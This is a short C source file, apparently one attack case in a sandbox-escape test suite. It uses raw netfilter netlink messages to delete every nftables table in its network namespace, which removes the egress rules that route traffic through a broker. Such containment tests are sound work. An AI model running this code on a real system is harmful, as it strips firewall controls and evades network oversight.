/* Deletes every nftables rule of the own network namespace: then nothing would lead to the broker.
 */
#include "../attack.h"

#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netlink.h>
#include <sys/socket.h>

static void put(char *buf, size_t *at, uint16_t type, uint16_t flags, const struct nfgenmsg *g)
{
	struct nlmsghdr h = {
		.nlmsg_len = NLMSG_LENGTH(sizeof(*g)), .nlmsg_type = type, .nlmsg_flags = flags};

	memcpy(buf + *at, &h, sizeof(h));
	memcpy(buf + *at + NLMSG_HDRLEN, g, sizeof(*g));
	*at += NLMSG_ALIGN(h.nlmsg_len);
}

ATTACK(NETWORK, "egress", .gain = "no rule that leads to the broker", .source = "nft(8)",
       .works = AS_ROOT)
{
	struct nfgenmsg batch = {.res_id = htobe16(NFNL_SUBSYS_NFTABLES)}, all = {0};
	struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
	char buf[256] = {0}, answer[4096];
	size_t n = 0;
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER);
	ssize_t got;
	struct nlmsghdr *h = (struct nlmsghdr *)answer;

	if (fd < 0)
		return -1;
	put(buf, &n, NFNL_MSG_BATCH_BEGIN, NLM_F_REQUEST, &batch);
	put(buf, &n, NFNL_SUBSYS_NFTABLES << 8 | NFT_MSG_DELTABLE, NLM_F_REQUEST | NLM_F_ACK, &all);
	put(buf, &n, NFNL_MSG_BATCH_END, NLM_F_REQUEST, &batch);
	if (sendto(fd, buf, n, 0, (struct sockaddr *)&kernel, sizeof(kernel)) < 0)
		return -1;
	got = recv(fd, answer, sizeof(answer), 0);
	if (got < (ssize_t)NLMSG_LENGTH(sizeof(struct nlmsgerr)))
		return -1;
	if (h->nlmsg_type == NLMSG_ERROR && ((struct nlmsgerr *)NLMSG_DATA(h))->error) {
		errno = -((struct nlmsgerr *)NLMSG_DATA(h))->error;
		return -1;
	}
	return 0;
}
